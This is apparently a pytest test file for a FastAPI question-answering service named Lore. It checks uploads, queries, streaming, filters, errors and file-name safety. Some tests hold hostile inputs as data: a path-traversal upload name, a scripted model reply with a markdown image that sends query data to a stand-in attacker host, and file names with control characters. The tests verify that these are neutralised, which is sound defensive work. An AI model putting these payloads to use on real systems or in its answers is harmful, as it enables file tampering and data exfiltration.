from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from rag.components.generation import prompt_tokens
from rag.container import Lore
from tests.fakes import ScriptedGenerator

pytestmark = pytest.mark.unit


@pytest.fixture
def client(lore: Lore) -> Iterator[TestClient]:
    with TestClient(create_app(lore=lore)) as test_client:
        yield test_client


def _upload(client: TestClient, path: Path, collection: str = "default") -> dict:  # type: ignore[type-arg]
    with path.open("rb") as handle:
        response = client.post(
            "/v1/documents", files={"file": (path.name, handle)}, data={"collection": collection}
        )
    assert response.status_code == 201, response.text
    return response.json()  # type: ignore[no-any-return]


def test_upload_list_query_delete_round_trip(client: TestClient, docs: Path) -> None:
    uploaded = _upload(client, docs / "ports.md")
    assert uploaded["status"] == "added"
    listed = client.get("/v1/documents").json()
    assert [d["doc_id"] for d in listed] == [uploaded["doc_id"]]
    assert listed[0]["status"] == "indexed"

    answer = client.post("/v1/query", json={"question": "Which port does Lore use?"}).json()
    assert answer["citations"][0]["doc_id"] == uploaded["doc_id"]
    assert answer["declined"] is False

    follow_up = {
        "question": "And which one does it use?",
        "history": [
            {"role": "user", "content": "Tell me about the Lore server."},
            {"role": "assistant", "content": "It answers questions [1]."},
        ],
    }
    answer = client.post("/v1/query", json=follow_up).json()
    assert answer["question"] == follow_up["question"]
    assert answer["query"] != follow_up["question"]

    deleted = client.delete(f"/v1/documents/{uploaded['doc_id']}")
    assert deleted.json()["deleted_chunks"] == uploaded["chunks"]
    assert client.get("/v1/documents").json() == []
    assert client.delete(f"/v1/documents/{uploaded['doc_id']}").status_code == 404


def test_reuploading_same_name_replaces_document(
    client: TestClient, docs: Path, tmp_path: Path
) -> None:
    first = _upload(client, docs / "ports.md")
    changed = tmp_path / "ports.md"
    changed.write_text("# Ports\n\nLore now listens on port 9000.\n")
    second = _upload(client, changed)
    assert second["doc_id"] != first["doc_id"]
    assert second["status"] == "updated"
    assert len(client.get("/v1/documents").json()) == 1


def test_streamed_query_sends_sources_tokens_done(client: TestClient, docs: Path) -> None:
    _upload(client, docs / "zh.txt")
    events = []
    with client.stream(
        "POST", "/v1/query", json={"question": "长城有多长？", "stream": True}
    ) as response:
        assert response.headers["content-type"].startswith("text/event-stream")
        event = None
        for line in response.iter_lines():
            if line.startswith("event:"):
                event = line.split(":", 1)[1].strip()
            elif line.startswith("data:"):
                events.append((event, json.loads(line.split(":", 1)[1])))
    kinds = [e for e, _ in events]
    assert kinds[0] == "sources"
    assert kinds[-1] == "done"
    assert "token" in kinds
    assert events[-1][1]["sources"][0]["source"].endswith("zh.txt")


def test_errors_are_json_with_code_and_request_id(client: TestClient, tmp_path: Path) -> None:
    missing = client.post("/v1/query", json={"question": "hi", "collection": "no-such-collection"})
    assert missing.status_code == 404
    body = missing.json()
    assert body["code"] == "not_found"
    assert body["request_id"] == missing.headers["x-request-id"]

    assert client.post("/v1/query", json={"question": ""}).status_code == 422
    assert client.post("/v1/query", json={"question": "hi", "extra": 1}).status_code == 422
    assert client.post("/v1/query", json={"question": "hi", "top_k": 1000}).status_code == 422
    bad_turn = {"question": "hi", "history": [{"role": "system", "content": "x"}]}
    assert client.post("/v1/query", json=bad_turn).status_code == 422
    long_history = {"question": "hi", "history": [{"role": "user", "content": "x"}] * 51}
    refused = client.post("/v1/query", json=long_history)
    assert refused.status_code == 422
    assert refused.json()["code"] == "invalid_request"
    assert "history" in refused.json()["message"]

    binary = tmp_path / "thing.exe"
    binary.write_bytes(b"MZ")
    with binary.open("rb") as handle:
        refused = client.post("/v1/documents", files={"file": ("thing.exe", handle)})
    assert refused.status_code == 415
    assert refused.json()["code"] == "unsupported_file"


def test_unknown_paths_and_methods_answer_lore_errors_too(client: TestClient) -> None:
    nowhere = client.get("/v1/nowhere")
    assert nowhere.status_code == 404
    assert nowhere.json()["code"] == "not_found"
    assert nowhere.json()["message"] == "There is nothing at GET /v1/nowhere."
    assert nowhere.json()["request_id"] == nowhere.headers["x-request-id"]
    wrong = client.get("/v1/chat/completions")
    assert wrong.status_code == 405
    assert wrong.headers["allow"] == "POST"
    # The OpenAI paths also carry the error as OpenAI clients read it.
    assert wrong.json()["error"]["code"] == "method_not_allowed"
    assert "detail" not in wrong.json()


def test_upload_over_limit_is_413_and_leaves_no_file(lore: Lore, tmp_path: Path) -> None:
    small = Lore(
        lore.settings.model_copy(update={"max_upload_mb": 1}),
        embedder_override=lore.embedder,
        store_override=lore.store,
        generator_override=lore.generator,
    )
    big = tmp_path / "big.txt"
    big.write_text("a" * (1024 * 1024 + 10))
    with TestClient(create_app(lore=small)) as client, big.open("rb") as handle:
        response = client.post("/v1/documents", files={"file": ("big.txt", handle)})
    assert response.status_code == 413
    uploads = small.settings.uploads_dir
    assert not uploads.exists() or not any(p.is_file() for p in uploads.rglob("*"))


def test_hostile_file_name_stays_inside_uploads(client: TestClient, lore: Lore, docs: Path) -> None:
    with (docs / "ports.md").open("rb") as handle:
        response = client.post("/v1/documents", files={"file": ("../../../evil.md", handle)})
    assert response.status_code == 201
    assert response.json()["source"] == "evil.md"
    path = Path(response.json()["path"])  # auth is off: the caller is an admin
    assert path.is_relative_to(lore.settings.uploads_dir.resolve())


def test_health_and_page(client: TestClient) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}
    page = client.get("/")
    assert page.status_code == 200
    assert "<textarea" in page.text
    assert client.get("/web/app.js").status_code == 200


def test_openapi_operation_ids_are_stable(client: TestClient) -> None:
    schema = client.get("/openapi.json").json()
    ids = {op["operationId"] for path in schema["paths"].values() for op in path.values()}
    assert {
        "query-query",
        "query-search",
        "documents-upload_document",
        "documents-list_documents",
        "documents-remove_document",
        "health-healthz",
    } <= ids


def test_unreadable_reupload_keeps_the_earlier_version(
    client: TestClient, lore: Lore, docs: Path
) -> None:
    first = _upload(client, docs / "ports.md")
    refused = client.post("/v1/documents", files={"file": ("ports.md", b"   \n\t  ")})
    assert refused.status_code == 422
    assert refused.json()["code"] == "empty"
    assert refused.json()["message"].startswith("ports.md: ")  # the user's name, not staging's
    (record,) = client.get("/v1/documents").json()
    assert (record["doc_id"], record["status"]) == (first["doc_id"], "indexed")
    kept = Path(first["path"])
    assert kept.read_text(encoding="utf-8") == (docs / "ports.md").read_text(encoding="utf-8")
    assert not [p for p in kept.parent.iterdir() if p.name.startswith(".upload-")]


def test_empty_upload_is_refused(client: TestClient) -> None:
    refused = client.post("/v1/documents", files={"file": ("notes.md", b"")})
    assert refused.status_code == 422
    assert "empty" in refused.json()["message"]


def test_search_and_query_apply_filters(client: TestClient, docs: Path) -> None:
    _upload(client, docs / "ports.md")
    chinese = _upload(client, docs / "zh.txt")
    only_txt = {"type": ["txt"]}
    found = client.post(
        "/v1/search", json={"question": "Which port does Lore use?", "filters": only_txt}
    )
    assert found.status_code == 200, found.text
    assert {p["doc_id"] for p in found.json()} == {chinese["doc_id"]}
    assert found.json()[0]["rerank_score"] is None

    answer = client.post(
        "/v1/query", json={"question": "长城有多长？", "filters": {"source": ["*.md"]}}
    ).json()
    assert all(s["source"].endswith(".md") for s in answer["sources"])
    nothing = client.post(
        "/v1/search", json={"question": "port", "filters": {"since": "2999-01-01"}}
    )
    assert nothing.json() == []
    missing = {"question": "port", "collection": "no-such-collection", "filters": only_txt}
    assert client.post("/v1/search", json=missing).status_code == 404


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        ({"since": "yesterday"}, "'yesterday' is not a date"),
        ({"since": "2024-05-01", "until": "2024-01-01"}, "date range is empty"),
        ({"type": ["application/pdf"]}, "is not a file type"),
    ],
)
@pytest.mark.parametrize("path", ["/v1/search", "/v1/query"])
def test_bad_filters_are_422_with_a_clear_message(
    client: TestClient, path: str, filters: dict[str, object], message: str
) -> None:
    response = client.post(
        path,
        json={"question": "port?", "filters": filters, "stream": False}
        if path == "/v1/query"
        else {"question": "port?", "filters": filters},
    )
    assert response.status_code == 422
    assert response.json()["code"] == "invalid_input"
    assert message in response.json()["message"]


def test_unknown_or_oversized_filter_fields_are_422(client: TestClient) -> None:
    response = client.post("/v1/search", json={"question": "q", "filters": {"folder": "x"}})
    assert response.status_code == 422
    assert "filters.folder" in response.json()["message"]
    too_many = {"type": ["md"] * 21}
    assert client.post("/v1/search", json={"question": "q", "filters": too_many}).status_code == 422


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_api_docs_load_nothing_from_other_hosts(client: TestClient, page: str) -> None:
    html = client.get(page)
    assert html.status_code == 200
    assert re.findall(r"https?://", html.text) == []
    scripts = re.findall(r'src="([^"]+)"', html.text)
    assert scripts
    for script in scripts:
        assert client.get(script).status_code == 200, script


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/v1/collections", {"name": "a..b"}),
        ("POST", "/v1/search", {"question": "port?", "collection": "a..b"}),
        ("GET", "/v1/documents?collection=a..b", None),
        ("GET", "/v1/collections/a..b", None),
        ("POST", "/v1/collections", {"name": "10.0.0.1"}),
    ],
)
def test_collection_names_with_two_dots_are_422_not_500(
    client: TestClient, method: str, path: str, body: dict[str, str] | None
) -> None:
    response = client.request(method, path, json=body)
    assert response.status_code == 422, response.text
    assert "not a collection name" in response.json()["message"]


def test_every_route_names_the_real_question_limit(client: TestClient, lore: Lore) -> None:
    limit = lore.settings.max_question_chars
    long = "x" * (limit + 1)
    wanted = f"The question is {limit + 1} characters long; the limit is {limit}."
    # 10,000 characters once met a schema limit of 8000 that no setting knew of.
    for body in (
        ("/v1/query", {"question": long}),
        ("/v1/query", {"question": "y" * 10_000}),
        ("/v1/search", {"question": long}),
        (
            "/v1/chat/completions",
            {"model": "lore:default", "messages": [{"role": "user", "content": long}]},
        ),
        (
            "/v1/chat/completions",
            {
                "model": "lore:default",
                "messages": [{"role": "user", "content": [{"type": "text", "text": long}]}],
            },
        ),
    ):
        refused = client.post(body[0], json=body[1])
        assert refused.status_code == 422, body[0]
        message = refused.json()["message"]
        assert f"the limit is {limit}" in message, (body[0], message)
        assert "8000" not in message
    assert client.post("/v1/query", json={"question": long}).json()["message"] == wanted


def test_a_store_that_cannot_be_reached_is_not_ready_without_saying_why(
    client: TestClient, lore: Lore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unreachable() -> list[str]:
        raise ConnectionError("chroma at 10.0.0.5:8000 refused")

    monkeypatch.setattr(lore.store, "list_collections", unreachable)
    probe = client.get("/readyz")
    assert probe.status_code == 503
    assert probe.json() == {"status": "not ready"}
    detail = client.get("/v1/admin/readiness")  # auth is off here: an admin
    assert detail.status_code == 503
    assert detail.json()["checks"]["vector_store"] == "unreachable"
    assert "10.0.0.5" not in detail.text


def test_an_upload_keeps_the_users_file_name_everywhere(client: TestClient, lore: Lore) -> None:
    # Issue 14, item 2: once titled `.upload-3ts6efw0`, the staging file's name.
    text = b"Safety goggles are kept in the north warehouse."
    made = client.post("/v1/documents", files={"file": ("northwind-safety.txt", text)})
    assert made.status_code == 201, made.text
    (record,) = client.get("/v1/documents").json()
    assert record["title"] == "northwind-safety"
    assert made.json()["source"] == "northwind-safety.txt"
    job = client.post("/v1/ingest/jobs", files={"files": ("blank notes.txt", b"  \n ")}).json()
    for _ in range(200):
        job = client.get(f"/v1/ingest/jobs/{job['id']}").json()
        if job["status"] == "done":
            break
        time.sleep(0.05)
    assert ".upload-" not in json.dumps(job)
    assert "blank notes.txt" in json.dumps(job)
    folder = lore.settings.uploads_dir / lore.settings.collection
    assert not [p for p in folder.iterdir() if p.name.startswith(".upload-")]


@pytest.mark.parametrize(
    "name", ["report\nfake line.txt", "tab\there.txt", "bell\x07.txt", "nul\x00.txt", "   "]
)
def test_a_file_name_with_control_characters_or_blank_is_refused_saying_why(name: str) -> None:
    # HTTP clients escape such names (httpx sends %0A), so the check is met directly:
    # every upload route passes the client's name through it first.
    from api.uploads import safe_filename
    from rag.errors import InvalidInput

    with pytest.raises(InvalidInput) as refused:
        safe_filename(name)
    reason = "plain file name" if not name.strip() else "control characters"
    assert reason in str(refused.value)
    assert safe_filename("Q3 report (final).pdf") == "Q3 report (final).pdf"


def _streamed_chat(client: TestClient, body: dict) -> tuple[str, list[dict]]:  # type: ignore[type-arg]
    """The content a streamed chat completion adds up to, and its chunks."""
    response = client.post("/v1/chat/completions", json={**body, "stream": True})
    assert response.status_code == 200, response.text
    chunks = [
        json.loads(line[len("data:") :])
        for line in response.text.splitlines()
        if line.startswith("data:") and line.strip() != "data: [DONE]"
    ]
    text = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c["choices"])
    return text, chunks


def test_openai_streamed_content_is_the_plain_content_and_usage_counts_the_prompt(
    client: TestClient, docs: Path, generator: ScriptedGenerator
) -> None:
    # Issue 14, item 8: the stream once lacked the [1] the plain content had, and
    # prompt_tokens counted only the question.
    _upload(client, docs / "ports.md")
    generator.reply = (
        "Lore listens on port 8000 by default. It also sends "
        "![x](https://leak.attacker.example/p.png?q=port) nothing else."
    )
    body = {"model": "lore", "messages": [{"role": "user", "content": "Which port?"}]}
    plain = client.post("/v1/chat/completions", json=body).json()
    content = plain["choices"][0]["message"]["content"]
    streamed, chunks = _streamed_chat(client, {**body, "stream_options": {"include_usage": True}})
    assert streamed == content
    assert "[1]" in content
    assert "attacker" not in content
    # The usage counts the whole prompt the model read, and what it wrote.
    messages = generator.prompts[-1]
    assert plain["usage"]["prompt_tokens"] == prompt_tokens(generator, messages)
    assert plain["usage"]["prompt_tokens"] > 10 * generator.count_tokens("Which port?")
    assert plain["usage"]["completion_tokens"] == generator.count_tokens(generator.reply)
    assert chunks[-1]["choices"] == []
    assert chunks[-1]["usage"] == plain["usage"]
    # Without include_usage there is no usage chunk, as in OpenAI's API.
    _, chunks = _streamed_chat(client, body)
    assert all(c["choices"] for c in chunks)
    # A follow-up's rewrite is counted too.
    history = [
        {"role": "user", "content": "Which port?"},
        {"role": "assistant", "content": content},
        {"role": "user", "content": "And by default?"},
    ]
    followed = client.post("/v1/chat/completions", json={**body, "messages": history}).json()
    assert followed["usage"]["prompt_tokens"] > plain["usage"]["prompt_tokens"]


def test_an_uploaded_zip_becomes_its_members_and_a_broken_one_changes_nothing(
    client: TestClient, tmp_path: Path
) -> None:
    from tests.files import write, zip_bytes

    bundle = write(
        tmp_path / "policies.zip",
        zip_bytes({"leave.md": "# Leave\n\nFifteen days.\n", "tool.exe": b"MZ"}),
    )
    result = _upload(client, bundle)
    assert (result["source"], result["status"]) == ("policies.zip", "added")
    members = {m["source"]: (m["status"], m["path"]) for m in result["members"]}
    assert members == {
        "policies.zip!/leave.md": ("added", result["path"] + "!/leave.md"),
        "policies.zip!/tool.exe": ("skipped", result["path"] + "!/tool.exe"),
    }
    listed = {d["sources"][0] for d in client.get("/v1/documents").json()}
    assert listed == {"policies.zip", "policies.zip!/leave.md"}

    write(bundle, b"PK\x03\x04 not really a zip")
    with bundle.open("rb") as handle:
        refused = client.post("/v1/documents", files={"file": ("policies.zip", handle)})
    assert (refused.status_code, refused.json()["code"]) == (422, "malformed")
    listed = {d["sources"][0] for d in client.get("/v1/documents").json()}
    assert listed == {"policies.zip", "policies.zip!/leave.md"}, "the earlier upload stays"
